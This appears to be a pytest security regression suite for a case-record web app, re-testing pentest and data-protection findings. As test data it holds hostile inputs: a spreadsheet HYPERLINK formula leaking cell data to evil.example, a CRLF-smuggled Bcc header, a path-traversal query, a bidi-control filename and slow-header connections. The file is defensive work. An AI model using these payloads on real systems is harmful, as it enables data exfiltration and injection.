"""What an intruder and a data protection officer found, each tried again against a real ``docgen serve`` and the real CLI."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import socket
import stat
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest

from docgen.audit import AuditLog
from docgen.ledger import Ledger
from docgen.ledger.connection import LEDGER_PATH
from docgen.web.accounts import Accounts
from docgen.web.sessions import load_secret
from tests.forms.builders import macro_enabled_copy
from tests.web.conftest import (
    EXAMPLES,
    PASSWORD,
    Server,
    csrf_token,
    docgen,
    overdue_record,
    root_copy,
    sign_in,
    start_server,
    stop_server,
)

pytestmark = pytest.mark.slow

CASE = "WEB-OVERDUE-1"  # Tom Okafor's
OTHER = "WEB-MARKUP-1"  # Marcus Bell's
FOLDER = f"{(dt.date.today() - dt.timedelta(days=40)).isoformat()}-initial"
FORMULA = '=HYPERLINK("http://evil.example/?"&B2&C2,"Open")'
CRLF_EMAIL = "tom.okafor@council.example\r\nBcc: spy@evil.example"
BIDI_NAME = "plan\u202excod.json"


@pytest.fixture(scope="module")
def review_root(published_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The published root run again by the real ``docgen run --once`` with ``file_mode = "644"`` and hostile forms in the inbox."""
    root = root_copy(published_root, tmp_path_factory.mktemp("review"), "request_head_seconds = 2\n", 'pdf = false\nfile_mode = "644"\n')
    AuditLog(root).record("admin", "sign_in", "", "127.0.0.1")  # every secret exists before the run
    load_secret(root)
    inbox = root / "inbox"
    formula = overdue_record("WEB-FORMULA-1")
    formula["key_worker"]["name"] = FORMULA
    formula["participants"][0]["name"] = "=1+2"
    (inbox / "formula.json").write_text(json.dumps(formula), encoding="utf-8")
    crlf = overdue_record("WEB-CRLF-1")
    crlf["key_worker"]["email"] = CRLF_EMAIL
    (inbox / "crlf.json").write_text(json.dumps(crlf), encoding="utf-8")
    (inbox / "CON.json").write_text(json.dumps(overdue_record("WEB-CON-1")), encoding="utf-8")
    (inbox / BIDI_NAME).write_text(json.dumps(overdue_record("WEB-BIDI-1")), encoding="utf-8")
    macro_enabled_copy(
        EXAMPLES / "standard" / "initial-jones.docx",
        inbox / "macro-form.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "word/vbaProject.bin",
    )
    ran = docgen("run", "--once", root=root)
    assert ran.returncode in (0, 1), ran.stderr  # 1: some forms were rejected, as they should be
    return root


@pytest.fixture(scope="module")
def server(review_root: Path) -> Iterator[Server]:
    """``docgen serve`` on the review root."""
    running = start_server(review_root)
    yield running
    assert stop_server(running) == 0


def _meeting(root: Path, case: str) -> Any:
    with Ledger.open(root) as ledger:
        return ledger.meetings(case)[0]


def _unsent(root: Path, meeting_id: int) -> list[str]:
    with Ledger.open(root) as ledger:
        return sorted(str(c["recipient"]) for c in ledger.copies(meeting_id) if not c.get("sent_date"))


def _post(client: httpx.Client, path: str, data: dict[str, str], page: str = f"/cases/{CASE}") -> httpx.Response:
    return client.post(path, data={"csrf_token": csrf_token(client.get(page).text), **data})


# 1. A URL's case owns what it names ----------------------------------------------------------------------------------


def test_a_copy_of_another_case_posted_under_your_own_case_is_404_and_stays_due(server: Server) -> None:
    other = _meeting(server.root, OTHER)
    due_before = _unsent(server.root, other.id)
    assert due_before
    for name in ("tokafor", "admin"):  # even an admin, who may open every case, cannot reach it through CASE's URL
        client = server.sign_in(name)
        refused = _post(client, f"/cases/{CASE}/copies", {"copy": f"{other.id}|{due_before[0]}|", "sent_date": dt.date.today().isoformat()})
        assert refused.status_code == 404, refused.text
    assert _unsent(server.root, other.id) == due_before
    assert not [e for e in server.audit() if e["action"] == "copy_sent" and OTHER in e["what"]]
    own = _meeting(server.root, CASE)
    mine = _unsent(server.root, own.id)[0]
    client = server.sign_in("tokafor")
    done = _post(client, f"/cases/{CASE}/copies", {"copy": f"{own.id}|{mine}|", "sent_date": dt.date.today().isoformat()})
    assert done.status_code == 303 and mine not in _unsent(server.root, own.id)


def test_a_visit_to_a_child_or_a_document_of_another_case_is_404(server: Server) -> None:
    client = server.sign_in("tokafor")
    visit = _post(client, f"/cases/{CASE}/visits", {"child": "C9", "visit_date": dt.date.today().isoformat()})
    assert visit.status_code == 404
    other_folder = _meeting(server.root, OTHER).folder
    assert client.get(f"/cases/{CASE}/{other_folder}/meeting-record.docx").status_code == 404
    assert client.get(f"/cases/{OTHER}/{other_folder}/meeting-record.docx").status_code == 200


# 2 and 3. The sign-in throttle holds against a burst, and the burst stalls nothing -----------------------------------


def test_thirty_wrong_passwords_at_once_get_at_most_five_checks_while_healthz_answers_within_a_second(server: Server) -> None:
    clients = [server.client() for _ in range(30)]
    tokens = [csrf_token(c.get("/login").text) for c in clients]
    start = threading.Barrier(31)
    latencies: list[float] = []
    done = threading.Event()

    def attempt(index: int) -> int:
        start.wait()
        data = {"username": "victim", "password": f"wrong guess {index}", "csrf_token": tokens[index]}
        return clients[index].post("/login", data=data).status_code

    def watch() -> None:
        with httpx.Client(base_url=server.url, timeout=10) as health:
            while not done.is_set():
                began = time.monotonic()
                assert health.get("/healthz").text == "ok"
                latencies.append(time.monotonic() - began)
                time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    with ThreadPoolExecutor(30) as pool:
        futures = [pool.submit(attempt, n) for n in range(30)]
        watcher.start()
        start.wait()
        statuses = [f.result() for f in futures]
    time.sleep(0.3)
    done.set()
    watcher.join()
    assert statuses.count(401) <= 5 and statuses.count(401) + statuses.count(429) == 30, statuses
    checked = [e for e in server.audit() if e["user"] == "victim" and e["action"] == "sign_in_failed"]
    assert 1 <= len(checked) <= 5
    assert latencies and max(latencies) < 1.0, latencies
    assert sign_in(server.client(), "victim").status_code == 429  # the right password waits out the window too


# 4. Form text is never a formula in any workbook docgen writes ------------------------------------------------------


def _formula_cells(data: bytes | Path) -> list[str]:
    book = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def _texts(data: bytes | Path) -> set[str]:
    book = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    return {str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}


def test_no_workbook_holds_a_formula_from_form_text(server: Server, tmp_path: Path) -> None:
    root = server.root
    [distribution] = (root / "outbox" / "WEB-FORMULA-1").glob("*/distribution.xlsx")
    today = dt.date.today()
    report = tmp_path / "report.xlsx"
    made = docgen("report", "--from", (today - dt.timedelta(days=90)).isoformat(), "--to", today.isoformat(), "-o", str(report), root=root)
    assert made.returncode == 0, made.stderr
    manager = server.sign_in("manager")
    web_report = manager.get("/report.xlsx")
    assert web_report.status_code == 200
    prefilled = server.sign_in("admin").get("/cases/WEB-FORMULA-1/next-meeting/review.xlsx")
    assert prefilled.status_code == 200
    assert docgen("forms", "--out", str(tmp_path / "blank")).returncode == 0
    workbooks: dict[str, bytes | Path] = {
        "distribution": distribution,
        "docgen report": report,
        "/report.xlsx": web_report.content,
        "pre-filled form": prefilled.content,
        **{p.name: p for p in (tmp_path / "blank").glob("*.xlsx")},
    }
    assert len(workbooks) >= 5
    for name, data in workbooks.items():
        assert _formula_cells(data) == [], name
    for name in ("distribution", "docgen report", "/report.xlsx"):
        assert FORMULA in _texts(workbooks[name]) or "=1+2" in _texts(workbooks[name]), name  # kept, as text
    assert FORMULA in _texts(workbooks["docgen report"])  # on the measure sheets and "Late items", by key worker


# 5. Secrets stay owner-only after a run, whatever file_mode says ----------------------------------------------------


def test_secrets_stay_owner_only_after_a_run_with_file_mode_644(review_root: Path) -> None:
    state = review_root / ".docgen"
    for name in ("users.json", "web-secret", "audit.log"):
        assert stat.S_IMODE((state / name).stat().st_mode) == 0o600, name
    assert stat.S_IMODE((review_root / LEDGER_PATH).stat().st_mode) == 0o644  # file_mode still rules the rest


# 6. A bad address is an error on the form -------------------------------------------------------------------------


def test_an_email_with_a_line_break_is_an_error_on_the_form(review_root: Path) -> None:
    report = (review_root / "inbox" / "rejected" / "crlf.json.errors.txt").read_text(encoding="utf-8")
    assert "Key worker's email" in report and "must be one email address on one line" in report and "[schema-email]" in report
    assert not (review_root / "outbox" / "WEB-CRLF-1").exists()


# 7. A worker's every request on someone else's case is audited ------------------------------------------------------


def test_every_request_a_worker_makes_on_anothers_case_is_audited(server: Server) -> None:
    before = len(server.audit())
    worker = server.sign_in("mbell")  # Marcus Bell: CASE is Tom Okafor's
    assert worker.get(f"/cases/{CASE}/{FOLDER}/meeting-record.docx").status_code == 200
    assert worker.get(f"/cases/{CASE}/next-meeting/review.docx").status_code == 200
    assert _post(worker, f"/cases/{CASE}/visits", {"child": "C1", "visit_date": "not a date"}).status_code == 400
    assert _post(worker, f"/cases/{CASE}/copies", {"copy": "", "sent_date": ""}).status_code == 400
    flagged = [e for e in server.audit()[before:] if e["user"] == "mbell" and e["action"] == "other_case"]
    asked = " ".join(e["what"] for e in flagged)
    assert all(e["what"].startswith(f"{CASE} (not their own case)") for e in flagged)
    for action in ("download meeting-record.docx", "pre-filled form review.docx", "visit_recorded", "copy_sent", "case_view"):
        assert action.split()[0] in asked and action.split()[-1] in asked, action
    mine = len(server.audit())
    owner = server.sign_in("tokafor")
    owner.get(f"/cases/{CASE}/{FOLDER}/meeting-record.docx")
    assert not [e for e in server.audit()[mine:] if e["action"] == "other_case"]


# 8. The low findings -------------------------------------------------------------------------------------------------


def test_a_link_in_a_meeting_folder_is_never_followed(server: Server) -> None:
    folder = server.root / "outbox" / CASE / FOLDER
    listed = folder / "plan-C2.docx"
    secret = server.root / "docgen.toml"
    listed.unlink()
    listed.symlink_to(secret)
    client = server.sign_in("admin")
    response = client.get(f"/cases/{CASE}/{FOLDER}/plan-C2.docx")
    assert response.status_code == 404 and b"[web]" not in response.content
    assert client.get(f"/cases/{CASE}/{FOLDER}/plan-C1.docx").status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/report?to=0001-01-01",
        "/report?from=31/31/2026",
        "/report.xlsx?to=0001-01-01",
        "/?as_of=9999-01-01",
        f"/cases/{CASE}?as_of=nonsense",
        "/cases?reference=../../etc/passwd",
    ],
)
def test_a_bad_query_parameter_is_400_with_a_message(server: Server, path: str) -> None:
    response = server.sign_in("manager").get(path)
    assert response.status_code == 400, (path, response.status_code)
    says = ("enter it like 5/1/2027", "enter a date between 1900 and 2999", "is not a case reference: use letters, digits, - and _.")
    assert any(message in response.text for message in says), response.text


def test_weak_passwords_are_refused_with_zxcvbns_advice(review_root: Path) -> None:
    for weak in ("password", "12345678"):
        refused = docgen("users", "add", "weakling", "--role", "worker", "--password-stdin", stdin=weak + "\n", root=review_root)
        assert refused.returncode == 1 and "The password is too easy to guess. This is a top-10 common password." in refused.stderr
    assert Accounts(review_root).get("weakling") is None
    added = docgen("users", "add", "weakling", "--role", "worker", "--password-stdin", stdin=PASSWORD + "\n", root=review_root)
    assert added.returncode == 0, added.stderr


def test_a_form_carrying_macros_is_refused_with_a_report_and_never_published(review_root: Path) -> None:
    report = (review_root / "inbox" / "rejected" / "macro-form.docx.errors.txt").read_text(encoding="utf-8")
    assert "macro-form.docx was refused: it carries macros" in report
    assert not list((review_root / "outbox").rglob("macro-form.docx"))


def test_inbox_names_reserved_on_windows_or_holding_bidi_controls_are_renamed(review_root: Path) -> None:
    assert [p.name for p in (review_root / "outbox" / "WEB-CON-1").glob("*/source/*")] == ["CON_.json"]
    assert [p.name for p in (review_root / "outbox" / "WEB-BIDI-1").glob("*/source/*")] == ["plan_xcod.json"]
    assert not [p for p in (review_root / "outbox").rglob("*") if "\u202e" in p.name or p.name.split(".")[0].upper() == "CON"]


def test_an_upload_named_like_a_windows_device_lands_renamed(server: Server) -> None:
    admin = server.sign_in("admin")
    data = json.dumps(overdue_record("WEB-UPLOAD-NUL")).encode()
    token = csrf_token(admin.get("/upload").text)
    response = admin.post("/upload", data={"csrf_token": token}, files={"form": ("nul.json", data, "application/json")})
    assert response.status_code == 303
    assert (server.root / "inbox" / "nul_.json").read_bytes() == data


def test_a_connection_sending_its_head_slowly_is_closed_and_others_are_served(server: Server) -> None:
    port = int(server.url.rsplit(":", 1)[1])
    slow = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(5)]
    began = time.monotonic()
    for connection in slow:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    closed_after = []
    for _ in range(8):  # a header line a second: each arrives well within uvicorn's keep-alive timer
        time.sleep(1)
        assert httpx.get(f"{server.url}/healthz", timeout=2).text == "ok"
        for connection in list(slow):
            try:
                connection.sendall(b"X-Slow: 1\r\n")
                connection.settimeout(0.01)
                if connection.recv(1) == b"":
                    raise ConnectionResetError
            except TimeoutError:
                continue
            except OSError:
                closed_after.append(time.monotonic() - began)
                slow.remove(connection)
                connection.close()
    assert not slow, "a slow connection was held open for 8 seconds"
    assert max(closed_after) < 6  # this root's deadline for a request head is 2 seconds


def test_with_a_trusted_proxy_two_user_headers_are_refused(published_root: Path, tmp_path: Path) -> None:
    root = root_copy(published_root, tmp_path, 'trusted_proxy = "127.0.0.1"\n', "pdf = false\n")
    proxied = start_server(root)
    try:
        with httpx.Client(base_url=proxied.url, follow_redirects=False, timeout=30) as client:
            one = client.get("/", headers={"X-Remote-User": "tokafor"})
            assert one.status_code == 200
        with httpx.Client(base_url=proxied.url, follow_redirects=False, timeout=30) as client:
            two = client.get("/", headers=[("X-Remote-User", "tokafor"), ("X-Remote-User", "admin")])
            assert two.status_code == 303 and two.headers["location"].startswith("/login")
        assert any(e["action"] == "sign_in" and "2 user headers" in e["what"] and e["outcome"] == "refused" for e in proxied.audit())
    finally:
        assert stop_server(proxied) == 0


# 9. An admin reads a secure email recipient's pack password on the case page -----------------------------------------


def test_an_admin_reads_a_pack_password_by_post_and_it_is_audited_but_never_logged(server: Server) -> None:
    passwords_file = server.root / "outbox" / CASE / FOLDER / "private" / "pdf-passwords.txt"
    if not passwords_file.is_file():
        pytest.skip("the published root was made without LibreOffice: no PDF packs")
    lines = [line.split("\t") for line in passwords_file.read_text(encoding="utf-8").splitlines() if not line.startswith("#")]
    assert {recipient for _, recipient, _, _ in lines} == {"Mrs Helen Carter", "Nadia Ali"}  # secure email alone
    admin = server.sign_in("admin")
    page = admin.get(f"/cases/{CASE}").text
    assert "Show pack passwords for secure email" in page and lines[0][3] not in page
    shown = _post(admin, f"/cases/{CASE}/pack-passwords", {"meeting": FOLDER})
    assert shown.status_code == 200 and shown.headers["cache-control"] == "no-store"
    assert all(password in shown.text for _, _, _, password in lines)
    for name in ("manager", "tokafor"):
        assert _post(server.sign_in(name), f"/cases/{CASE}/pack-passwords", {"meeting": FOLDER}).status_code == 403
    assert _post(admin, f"/cases/{CASE}/pack-passwords", {"meeting": _meeting(server.root, OTHER).folder}).status_code == 404
    assert admin.get(f"/cases/{CASE}/pack-passwords").status_code in (404, 405)
    entries = [e for e in server.audit() if e["action"] == "pack_passwords_shown"]
    assert entries and entries[-1]["user"] == "admin" and entries[-1]["what"] == f"{CASE}/{FOLDER}: 2 pack passwords"
    log = (server.root / ".docgen" / "audit.log").read_text(encoding="utf-8")
    assert not any(password in log for _, _, _, password in lines)
    assert os.stat(server.root / ".docgen" / "audit.log").st_mode & 0o077 == 0
